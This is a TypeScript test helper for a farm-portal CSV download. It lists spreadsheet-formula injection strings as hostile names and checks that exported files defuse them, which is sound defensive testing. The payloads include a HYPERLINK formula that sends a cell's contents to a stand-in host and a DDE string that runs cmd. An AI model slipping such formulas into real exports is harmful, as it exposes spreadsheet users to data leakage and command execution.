import { defuseFormula } from '@portal/shared';
import { parse } from 'csv-parse/sync';
import { csvText, type CsvCell } from './reportText';

/**
 * For the download tests: names a device, an import or a grantee could give a farm, flock, house,
 * side or device, each one a spreadsheet formula (OWASP's CSV injection examples), and the checks
 * that a written file defuses them.
 */
export const HOSTILE = {
  farm: '=HYPERLINK("http://x.test/?"&A1;"ver")',
  flock: "+cmd|' /C calc'!A0",
  house: '@SUM(1+1)',
  side: '-2+3',
  device: '\t=1+1',
} as const;

export const HOSTILE_NAMES: readonly string[] = Object.values(HOSTILE);

/** The cells of a CSV text, as a spreadsheet reads them. */
export const csvCells = (text: string, separator: string): string[][] =>
  parse(text, { delimiter: separator, record_delimiter: '\r\n', relax_column_count: true }) as string[][];

/** The cells a spreadsheet would run as a formula: those the shared rule would still defuse (a formula start, not a plain number). */
export const formulaCells = (cells: readonly string[]): string[] => cells.filter((cell) => defuseFormula(cell) !== cell);

/** Every separator a user may choose. */
export const SEPARATORS = [';', ',', '\t', '|'] as const;

/** The cells of csvText's file of `header` and `rows` in pt-BR, once per separator (a test checks each). */
export const csvInEverySeparator = (header: readonly string[], rows: readonly (readonly CsvCell[])[]): { separator: string; cells: string[][] }[] =>
  SEPARATORS.map((separator) => ({ separator, cells: csvCells(csvText({ locale: 'pt-BR', separator }, header, rows), separator) }));
